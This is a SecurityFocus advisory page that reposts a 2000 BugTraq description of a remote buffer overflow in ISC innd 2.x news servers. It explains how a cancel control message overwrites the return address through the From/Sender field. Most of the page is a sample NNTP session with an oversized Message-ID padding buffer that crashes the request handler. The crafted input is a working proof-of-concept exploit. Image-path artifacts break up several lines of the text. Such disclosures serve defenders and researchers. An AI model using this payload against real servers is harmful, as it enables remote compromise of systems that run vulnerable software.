ISC innd 2.x Remote Buffer Overflow Vulnerability

The following exploit description was posted to BugTraq on June 6, 2000 by Michal Zalewski <>:

How to exploit it? It could be a problem for script kiddies, as Message-ID is strictly checked for non-printable characters etc. But hey, Message-ID can be used only as a padding, and then we can overwrite return address with From/Sender address of cancel post! This field is not verified in any fascist way. Shellcode? Can be placed anywhere, quite big portions of cancel post are lying in the accessible memory when overflow happens.

Sample input ("LONGBUFFER" = around 500-600 bytes of AAAs..., has to be the same every time):

-- input -
201 XXX InterNetNews NNRP server INN 2.2 23-Oct-1998 ready (posting ok)mode reader
group pl.test
Message-ID: <none@LONGBUFFER>
From: <>
Sender: <>
Newsgroups: pl.test

. <- single dot, comment to avoid mail transfer problems
group control
Message-ID: <>
Approved: <>From: <>
Sender: <>
Control: cancel <none@LONGBUFFER>
Subject: cmsg cancel <none@LONGBUFFER>
Newsgroups:control

Damn, cancel it.
. <- single dot
-- EOF --

If innd/nnrp is running under debugger like strace, you'll see that child process responsible for request handling dieswith SIGSEGV. Nice.


PrivacyStatement
Copyright 2010, SecurityFocus